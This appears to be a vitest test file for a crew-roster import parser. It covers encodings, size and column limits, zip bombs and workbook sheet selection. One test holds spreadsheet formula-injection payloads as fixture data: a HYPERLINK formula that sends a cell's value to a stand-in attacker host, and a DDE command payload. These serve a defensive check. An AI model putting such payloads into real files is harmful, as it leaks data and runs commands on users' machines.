import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { MAX_BYTES, MAX_ROWS } from "@/lib/roster/import/limits";
import { parseRosterFile } from "@/lib/roster/import/parse";
import { isImportError, type ImportError, type ParsedTable } from "@/lib/roster/import/types";
import { fixture } from "./fake-context";

async function parsed(name: string, options?: { sheet?: string }): Promise<ParsedTable> {
  const result = await parseRosterFile(name, fixture(name), options);
  if (isImportError(result)) throw new Error(`expected a table, got: ${result.error}`);
  return result;
}

async function refused(name: string, bytes: Uint8Array, options?: { sheet?: string }): Promise<ImportError> {
  const result = await parseRosterFile(name, bytes, options);
  if (!isImportError(result)) throw new Error("expected an error");
  return result;
}

const utf8 = (s: string) => new TextEncoder().encode(s);

describe("parseRosterFile", () => {
  it("refuses an empty file (empty.csv)", async () => {
    expect(await refused("empty.csv", fixture("empty.csv"))).toEqual({ error: "The file is empty." });
  });

  it("refuses a file of blank lines", async () => {
    expect((await refused("crew.csv", utf8("\r\n,,\r\n  \r\n"))).error).toBe("The file is empty.");
  });

  it("refuses a header with no people (header-only.csv)", async () => {
    expect((await refused("header-only.csv", fixture("header-only.csv"))).error).toBe("The file has a header row but no people.");
  });

  it("refuses a file over 10 MB before reading it", async () => {
    const bytes = new Uint8Array(MAX_BYTES + 1).fill(0x41);
    expect((await refused("crew.csv", bytes)).error).toBe("The file is 10.1 MB; the limit is 10 MB.");
  });

  it("accepts a file of exactly 10 MB", async () => {
    const line = "Maya Okafor,Gaffer\n";
    const head = "Name,Role\n";
    const bytes = new Uint8Array(MAX_BYTES).fill(0x20);
    bytes.set(utf8(head + line));
    const result = await parseRosterFile("crew.csv", bytes);
    expect(isImportError(result)).toBe(false);
  });

  it("refuses 20,001 rows and accepts 20,000", async () => {
    const file = (rows: number) => utf8(["Name,Role", ...Array.from({ length: rows }, (_, i) => `Person ${i},Gaffer`)].join("\n"));
    expect((await refused("big.csv", file(MAX_ROWS + 1))).error).toBe("The file has 20,001 rows; the limit is 20,000. Split it into smaller files.");
    const ok = await parseRosterFile("big.csv", file(MAX_ROWS));
    expect(isImportError(ok) ? ok.error : ok.rows.length).toBe(MAX_ROWS);
  });

  it("refuses a text file renamed .xlsx (not-really.xlsx)", async () => {
    expect((await refused("not-really.xlsx", fixture("not-really.xlsx"))).error).toMatch(/is not a real Excel workbook/);
  });

  it("refuses an unsupported type", async () => {
    expect((await refused("crew.pdf", utf8("%PDF-1.7"))).error).toMatch(/not a file type Hatrack can import/);
  });

  it("refuses binary content named .csv", async () => {
    expect((await refused("crew.csv", new Uint8Array([0x4e, 0x00, 0x00, 0x00, 0x61, 0x00, 0x00, 0x01, 0xff])))).toEqual({
      error: "The file does not look like a spreadsheet or a CSV file.",
    });
  });

  it("refuses a malformed CSV with a clear message (malformed.csv)", async () => {
    expect((await refused("malformed.csv", fixture("malformed.csv"))).error).toMatch(/^The file could not be read: row 3 has a quote mark/);
  });

  it("reads a UTF-8 file with a BOM without a stray character in the first header (bom.csv)", async () => {
    const table = await parsed("bom.csv");
    expect(table).toMatchObject({ format: "csv", encoding: "utf-8-bom", headers: ["Name", "Position", "Email"] });
    expect(table.rows).toEqual([["Maya Okafor", "Director of Photography", "maya@example.com"]]);
  });

  it("reads Excel's Unicode text (utf16.txt)", async () => {
    const table = await parsed("utf16.txt");
    expect(table).toMatchObject({ format: "tsv", encoding: "utf-16le", headers: ["Name", "Department", "Position", "Email"] });
    expect(table.rows).toEqual([
      ["Zoë Kravitz-Lee", "Camera", "Camera Operator", "zoe@example.com"],
      ["李小龍", "Directing", "Director", ""],
    ]);
  });

  it("reads Windows-1252 (win1252.csv)", async () => {
    const table = await parsed("win1252.csv");
    expect(table.encoding).toBe("windows-1252");
    expect(table.rows).toEqual([
      ["José Núñez", "Gaffer", "“Sparky” — day rate €500"],
      ["Renée Ñandú", "Production Designer", "café crew"],
    ]);
  });

  it("reads names in every script (unicode-names.csv)", async () => {
    const table = await parsed("unicode-names.csv");
    expect(table.encoding).toBe("utf-8");
    expect(table.rows.map((r) => r[0])).toEqual([
      "Amélie Poulain",
      "黒澤 明",
      "محمد الأحمد",
      "דוד כהן",
      "Сергей Эйзенштейн",
      "Nguyễn Thị Minh",
      "Chloe\u0301 Zhao",
    ]);
  });

  it("keeps formula-looking cells as plain text (formula-injection.csv)", async () => {
    const table = await parsed("formula-injection.csv");
    expect(table.rows).toEqual([
      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "Gaffer", "+1"],
      ["Maya Okafor", "@SUM(A1:A2)", "-2"],
      ["Sam Reed", "Gaffer", "=cmd|' /C calc'!A0"],
    ]);
  });

  it("reads quoted cells and ragged rows (quotes-newlines.csv, ragged.csv)", async () => {
    expect((await parsed("quotes-newlines.csv")).rows[1]![2]).toBe("Line one\r\nLine two, with a comma");
    const ragged = await parsed("ragged.csv");
    expect(ragged.rows.every((r) => r.length === ragged.headers.length)).toBe(true);
    expect(ragged.rowNumbers).toEqual([2, 3, 4, 6]);
  });

  it("reads a semicolon CSV (semicolon.csv)", async () => {
    expect((await parsed("semicolon.csv")).headers).toEqual(["Name", "Position", "Email"]);
  });

  it("keeps a 10,000-character cell for validation to flag (long-cell.csv)", async () => {
    expect((await parsed("long-cell.csv")).rows[1]![2]).toHaveLength(10_000);
  });

  describe("files shaped to stall or exhaust the server (issue 14)", () => {
    it("refuses a 20 KB header of 10,000 columns with a clear message (wide-header.csv)", async () => {
      expect((await refused("wide-header.csv", fixture("wide-header.csv"))).error).toBe(
        "The file has 10,000 columns; the limit is 200. Delete the columns you don't need to import, or save only the crew list, and try again.",
      );
    });

    it("refuses 16,000 header names over 20,000 one-cell rows without padding them out (wide-header-many-rows.csv)", async () => {
      const before = process.memoryUsage().heapUsed;
      expect((await refused("wide-header-many-rows.csv", fixture("wide-header-many-rows.csv"))).error).toMatch(/^The file has 16,000 columns; the limit is 200\./);
      // Padding every row to the widest made 320 million cells (3.7 GB) before; what is left now is the parsed records.
      expect(process.memoryUsage().heapUsed - before).toBeLessThan(64 * 1024 * 1024);
    });

    it("accepts 200 columns and refuses 201", async () => {
      const file = (columns: number) => utf8([Array.from({ length: columns }, (_, i) => `C${i + 1}`).join(","), Array.from({ length: columns }, () => "x").join(",")].join("\n"));
      expect((await parseRosterFile("wide.csv", file(200)) as ParsedTable).headers).toHaveLength(200);
      expect((await refused("wide.csv", file(201))).error).toMatch(/^The file has 201 columns; the limit is 200\./);
    });

    it("refuses more than 1,000,000 cells and accepts exactly that many", async () => {
      const file = (rows: number) => {
        const line = Array.from({ length: 200 }, () => "x").join(",");
        return utf8([Array.from({ length: 200 }, (_, i) => `C${i + 1}`).join(","), ...Array.from({ length: rows }, () => line)].join("\n"));
      };
      expect((await refused("cells.csv", file(5_001))).error).toBe(
        "The file has 1,000,200 cells (5,001 rows × 200 columns); the limit is 1,000,000. Delete the columns you don't need to import, or split the file.",
      );
      expect((await parseRosterFile("cells.csv", file(5_000)) as ParsedTable).rows).toHaveLength(5_000);
    });

    it("refuses a cell longer than a spreadsheet cell and a header over 1,000 characters", async () => {
      expect((await refused("long.csv", utf8(`Name,Notes\nMaya,${"x".repeat(32_768)}\n`))).error).toBe(
        "Row 2 has a cell of 32,768 characters; a cell can hold at most 32,767. Check that the file is a crew list and save it again.",
      );
      expect((await refused("long.csv", utf8(`Name,${"N".repeat(1_001)}\nMaya,x\n`))).error).toBe("Column 2's header is 1,001 characters long; the limit is 1,000. Shorten it and try again.");
    });

    it("refuses a file of far too many lines or fields before parsing them", async () => {
      expect((await refused("blank.csv", utf8("Name,Role\nMaya,DP" + "\n".repeat(250_000)))).error).toMatch(/^The file has far more cells than a crew list/);
      expect((await refused("commas.csv", utf8("Name,Role\n" + ",".repeat(20_000)))).error).toBe(
        "The file has more than 16,384 columns; the limit is 200. Delete the columns you don't need to import, or save only the crew list, and try again.",
      );
    });

    it("refuses a zip bomb with a clear message (zip-bomb.xlsx)", async () => {
      expect((await refused("zip-bomb.xlsx", fixture("zip-bomb.xlsx"))).error).toBe(
        "The workbook unpacks to more than 100 MB. Save the crew list on its own as .xlsx or CSV and try again.",
      );
    });
  });

  describe("workbooks (several-sheets.xlsx)", () => {
    it("prefers a visible sheet to a hidden one with people before it, and still opens the hidden one when asked (hidden-first.xlsx)", async () => {
      const table = await parsed("hidden-first.xlsx");
      expect(table).toMatchObject({ sheet: "Crew", sheetNames: ["Old crew", "Crew"], hiddenSheets: ["Old crew"], rows: [["Maya Okafor", "Director of Photography"]] });
      expect(await parsed("hidden-first.xlsx", { sheet: "Old crew" })).toMatchObject({ sheet: "Old crew", rows: [["Former Gaffer", "Gaffer"]] });
    });

    it("names the sheet that is too big, keeping the list of sheets to choose another", async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet("Crew").addRow(["Name", "Role"]).commit();
      wb.getWorksheet("Crew")!.addRow(["Maya", "DP"]);
      const wide = wb.addWorksheet("Budget");
      wide.addRow(Array.from({ length: 250 }, (_, i) => `C${i}`));
      wide.addRow(["x"]);
      const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
      expect(await refused("crew.xlsx", bytes, { sheet: "Budget" })).toEqual({
        error: 'The sheet "Budget" has 250 columns; the limit is 200. Delete the columns you don\'t need to import, or save only the crew list, and try again.',
        sheetNames: ["Crew", "Budget"],
      });
    });

    it("opens the first sheet that has people and lists every sheet", async () => {
      const table = await parsed("several-sheets.xlsx");
      expect(table).toMatchObject({ format: "xlsx", sheet: "Crew", sheetNames: ["Notes", "Crew", "Cast"] });
      expect(table.encoding).toBeUndefined();
      expect(table.rows).toHaveLength(3);
    });

    it("prefers a sheet with people over an earlier header-only sheet", async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet("Template").addRow(["Name", "Role"]);
      const crew = wb.addWorksheet("Crew");
      crew.addRow(["Name", "Role"]);
      crew.addRow(["Maya Okafor", "DP"]);
      const result = await parseRosterFile("crew.xlsx", new Uint8Array(await wb.xlsx.writeBuffer()));
      expect(result).toMatchObject({ sheet: "Crew", rows: [["Maya Okafor", "DP"]] });
    });

    it("says which sheet has only a header", async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet("Template").addRow(["Name", "Role"]);
      wb.addWorksheet("Empty");
      expect(await refused("crew.xlsx", new Uint8Array(await wb.xlsx.writeBuffer()))).toEqual({
        error: 'The sheet "Template" has a header row but no people.',
        sheetNames: ["Template", "Empty"],
      });
    });

    it("says a workbook with only empty sheets is empty", async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet("Sheet1");
      expect((await refused("crew.xlsx", new Uint8Array(await wb.xlsx.writeBuffer()))).error).toBe("The file is empty.");
    });

    it("opens the sheet asked for", async () => {
      const table = await parsed("several-sheets.xlsx", { sheet: "Cast" });
      expect(table).toMatchObject({ sheet: "Cast", headers: ["Name", "Role"], rows: [["Ana María de la Cruz", "Lead"]] });
    });

    it("says a chosen sheet is empty, listing the sheets", async () => {
      expect(await refused("several-sheets.xlsx", fixture("several-sheets.xlsx"), { sheet: "Notes" })).toEqual({
        error: 'The sheet "Notes" is empty.',
        sheetNames: ["Notes", "Crew", "Cast"],
      });
    });

    it("names the sheets when the one asked for does not exist", async () => {
      const result = await refused("several-sheets.xlsx", fixture("several-sheets.xlsx"), { sheet: "Crew list" });
      expect(result.error).toBe('The workbook has no sheet named "Crew list". Its sheets are: "Notes", "Crew", "Cast".');
      expect(result.sheetNames).toEqual(["Notes", "Crew", "Cast"]);
    });
  });
});

describe("isImportError", () => {
  it("tells a refusal from a table", () => {
    expect(isImportError({ error: "The file is empty." })).toBe(true);
    expect(isImportError({ format: "csv", headers: ["Name"], rows: [["Maya"]], rowNumbers: [2] })).toBe(false);
  });
});
